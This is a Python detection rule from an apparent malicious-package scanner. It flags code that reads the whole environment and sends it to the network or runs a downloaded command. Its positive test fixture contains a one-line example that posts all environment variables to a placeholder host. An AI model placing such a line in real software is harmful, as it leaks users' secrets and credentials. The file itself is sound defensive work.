"""The whole environment meets the network."""

from __future__ import annotations

from typing import TYPE_CHECKING

from veln_hook.signals.source.rule import BY_ITSELF, HOLD, REVIEW, Hit, Rule
from veln_hook.source import vocabulary as v

if TYPE_CHECKING:
    from collections.abc import Iterator

    from veln_hook.signals.source.view import View


def _find(view: View) -> Iterator[Hit]:
    for net in view.of(v.NET, v.DNS):
        if "env" in net.taints:
            yield Hit(
                f"environment variables are sent to {net.detail or 'the network'}",
                (net,),
                HOLD if "sends" in net.flags else REVIEW,
            )
    for sweep, net, reach, _ in view.pairs((v.ENV,), (v.NET,)):
        if sweep.detail == "sweep":
            grade = HOLD if reach in BY_ITSELF or "env" in net.taints else REVIEW
            yield Hit(
                f"it reads the whole environment and reaches {net.detail or 'the network'}",
                (sweep, net),
                grade,
            )
    for sweep, command, _, _ in view.pairs((v.ENV,), (v.PROC,), by_itself=True):
        if sweep.detail == "sweep" and "download" in command.flags:
            yield Hit(f"it reads the whole environment and runs {command.detail}", (sweep, command), HOLD)


RULE = Rule(
    name="environment-exfiltration",
    description="All environment variables are read by code that reaches the network, or go into a request.",
    grade=HOLD,
    find=_find,
    fires={
        "acme/__init__.py": (
            "import os, requests\nrequests.post('https://example.test', json=dict(os.environ))\n"
        )
    },
    quiet={
        "acme/__init__.py": (
            "import os, subprocess\n\ndef run(args):\n    return subprocess.run(args, env=dict(os.environ))\n"
        )
    },
    rates="42 of 2,004 malicious clusters, none of 200 popular archives",
)
